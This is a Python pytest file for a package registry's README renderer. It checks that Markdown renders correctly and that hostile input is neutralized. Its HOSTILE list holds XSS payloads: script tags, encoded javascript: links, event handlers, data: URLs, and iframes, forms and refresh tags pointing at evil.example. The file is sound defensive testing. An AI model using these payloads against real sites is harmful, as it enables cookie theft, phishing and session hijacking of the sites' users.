"""READMEs: Markdown renders, and hostile content is neutralized (web/markdown.py)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from assay.web.markdown import LINK_REL, render, sanitize


def test_markdown_renders_what_readmes_use() -> None:
    html = render(
        "# Title\n\nSome *emphasis*, **strong**, `code` and ~~gone~~.\n\n"
        "```js\nconst x = 1 < 2;\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "- one\n- two\n\n"
        "[docs](https://example.com/docs) ![logo](https://example.com/logo.png)\n\n"
        "<details><summary>More</summary>\n\nhidden\n\n</details>\n"
    )
    assert "<h3>Title</h3>" in html
    assert "<em>emphasis</em>" in html
    assert "<strong>strong</strong>" in html
    assert "<code>code</code>" in html
    assert "<s>gone</s>" in html
    assert "const x = 1 &lt; 2;" in html
    assert "<table>" in html
    assert "<td>2</td>" in html
    assert "<li>one</li>" in html
    assert f'<a href="https://example.com/docs" rel="{LINK_REL}">docs</a>' in html
    # Images are links to them: viewing a README fetches nothing from other sites.
    assert f'<a href="https://example.com/logo.png" rel="{LINK_REL}">Image: logo</a>' in html
    assert "<img" not in html
    assert "<details><summary>More</summary>" in html


def test_empty_readme_renders_nothing() -> None:
    assert render("") == ""
    assert render("  \n\n") == ""


HOSTILE = [
    # script tags, inline and as an HTML block, in every spelling a parser might miss
    "<script>alert(1)</script>",
    "text <script>alert(1)</script> more",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    # javascript: links, Markdown and HTML, encoded and disguised
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='jav&#x61;script:alert(1)'>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    # event handler attributes
    "<img src='https://example.com/a.png' onerror='alert(1)'>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<a href='https://example.com' onclick='alert(1)'>x</a>",
    "<details open ontoggle='alert(1)'>x</details>",
    "<body onload='alert(1)'>",
    # data: URLs
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src='data:image/png;base64,AAAA'>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    # raw HTML that changes the page or loads code
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<svg onload='alert(1)'><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action='https://evil.example'><input name='password'><button>Log in</button></form>",
    "<style>body { display: none }</style>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
    "<p class='site-header' id='main'>spoof</p>",
    "<!-- <script>alert(1)</script> -->",
    # relative and scheme-relative URLs resolve against the registry origin
    "[x](//evil.example/path)",
    "[x](/-/npm/v1/tokens)",
    "<img src='/-/whoami'>",
]
ALLOWED_URL = re.compile(r"^(https?://[^/\s]|mailto:)", re.I)
NEVER = frozenset(
    {"script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "style",
     "link", "meta", "base", "body", "frame", "frameset", "template", "textarea", "select"}
)  # fmt: skip


class _Elements(HTMLParser):
    """Every start tag of a fragment with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_content_is_neutralized(source: str) -> None:
    html = render(source)
    parsed = elements(html)
    assert not parsed.comments, html
    for tag, attributes in parsed.elements:
        assert tag not in NEVER, html
        for name, value in attributes:
            assert not name.startswith("on"), html
            assert name not in ("style", "class", "id", "xlink:href", "action"), html
            if name in ("href", "src", "cite"):
                assert value is not None, html
                assert ALLOWED_URL.match(value), html
    # Whatever survives as text is inert: no markup a browser would run.
    assert "<script" not in html.lower()


def test_script_content_is_dropped_not_shown() -> None:
    html = render("before <script>stealCookies()</script> after")
    assert "stealCookies" not in html
    assert "before" in html
    assert "after" in html


def test_every_link_gets_nofollow_noopener() -> None:
    html = sanitize("<a href='https://example.com' rel='opener' target='_blank'>x</a>")
    assert html == f'<a href="https://example.com" rel="{LINK_REL}">x</a>'


def test_mailto_is_kept_and_other_schemes_are_not() -> None:
    assert 'href="mailto:a@example.com"' in render("<a href='mailto:a@example.com'>mail</a>")
    for scheme in ("ftp://example.com/x", "file:///etc/passwd", "tel:123", "ssh://h"):
        assert "href" not in render(f"<a href='{scheme}'>x</a>"), scheme


def test_headings_sit_below_the_pages_own() -> None:
    html = render("# One\n\n## Two\n\n###### Six\n\n<h1>raw one</h1>\n\n<h2>raw two</h2>\n")
    assert "<h3>One</h3>" in html
    assert "<h4>Two</h4>" in html
    assert "<h6>Six</h6>" in html
    assert "<h1" not in html
    assert "<h2" not in html
    assert "raw one" in html


def test_images_become_links_and_raw_images_go() -> None:
    html = render(
        '![a "quoted" <alt>](https://example.com/a.png)\n\n<img src="https://e.example/x">'
    )
    assert html.count("<a ") == 1
    assert 'href="https://example.com/a.png"' in html
    assert (
        "Image: a &quot;quoted&quot; &lt;alt&gt;" in html or 'Image: a "quoted" &lt;alt&gt;' in html
    )
    assert "<img" not in html
    assert "e.example" not in html
